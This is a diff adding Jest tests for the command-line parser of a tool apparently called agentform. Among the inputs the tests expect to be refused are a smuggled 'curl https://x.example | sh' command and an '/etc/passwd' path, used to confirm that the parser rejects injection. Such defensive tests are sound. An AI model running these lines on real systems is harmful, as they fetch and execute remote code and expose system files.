@@ -1,0 +1,75 @@
+import { describe, expect, test } from '@jest/globals';
+import fc from 'fast-check';
+import { commandNames, parseCommandLine } from '../../src/action/command-line.ts';
+import { AgentformError } from '../../src/errors.ts';
+import { hostileText } from '../report/hostile-text.ts';
+
+describe('the input command', () => {
+  test.each(commandNames.slice(0, 5))('is %s alone', (command) => {
+    expect(parseCommandLine(command)).toMatchObject({ command, words: [], overwrite: [], allowOlder: false });
+  });
+
+  test('is read as agentform prints it', () => {
+    expect(parseCommandLine(' `agentform record adopt Agent/front-desk camp_1 -e production` ')).toMatchObject({
+      command: 'record adopt',
+      words: ['Agent/front-desk', 'camp_1'],
+      environment: 'production',
+    });
+    const digest = `sha256:${'0'.repeat(64)}`;
+    const line = `apply web-* --overwrite Agent/a --overwrite Agent/b --allow-older --allow-creates 12 --publish -y --approve-digest ${digest}`;
+    expect(parseCommandLine(line)).toEqual({
+      command: 'apply',
+      words: ['web-*'],
+      environment: undefined,
+      overwrite: ['Agent/a', 'Agent/b'],
+      allowOlder: true,
+      allowCreates: 12,
+      allowPending: false,
+      publish: true,
+      approveDigest: digest,
+    });
+  });
+
+  test('may be options alone, which belong to apply', () => {
+    expect(parseCommandLine('--allow-older')).toMatchObject({ command: 'apply', allowOlder: true });
+  });
+
+  test.each([
+    ['', 'plan'],
+    ['publish --allow-pending front-desk', 'publish'],
+    ['record rename Agent/a Agent/b', 'record rename'],
+  ])('%j is %s', (line, command) => {
+    expect(parseCommandLine(line).command).toBe(command);
+  });
+
+  test.each([
+    ['apply; curl https://x.example | sh', 'which is no command here; it takes plan, validate, apply'],
+    ['apply --plan /etc/passwd', 'which has an option that does not fit; apply takes --environment, --allow-older'],
+    ['apply --overwrite', 'which has an option that does not fit'],
+    ['apply --allow-creates many', 'which needs a whole number behind --allow-creates'],
+    ['validate front-desk', 'which does not fit; write `validate`, which takes no names'],
+    ['record', 'which is no command here'],
+    ['record move --to file', 'which is no command here'],
+    ['record adopt Agent/front-desk ID', 'which has ID in it; put the value in its place'],
+    ['record forget Agent/a Agent/b', 'which does not fit; write `record forget Kind/name`'],
+    ['record rename Agent/a', 'which does not fit; write `record rename Kind/old Kind/new`'],
+    ['toString', 'which is no command here'],
+    [`apply ${'a'.repeat(3_000)}`, 'which is longer than 2000 characters'],
+  ])('is refused as %.40j', (line, sentence) => {
+    expect(() => parseCommandLine(line)).toThrow(sentence);
+  });
+
+  test('is one of the commands or is refused, whatever it holds', () => {
+    fc.assert(
+      fc.property(fc.oneof(hostileText, fc.string({ unit: 'binary' })), (text) => {
+        for (const line of [text, `apply ${text}`, `record forget ${text}`]) {
+          try {
+            expect(commandNames).toContain(parseCommandLine(line).command);
+          } catch (error) {
+            expect(error).toBeInstanceOf(AgentformError);
+          }
+        }
+      }),
+    );
+  });
+});
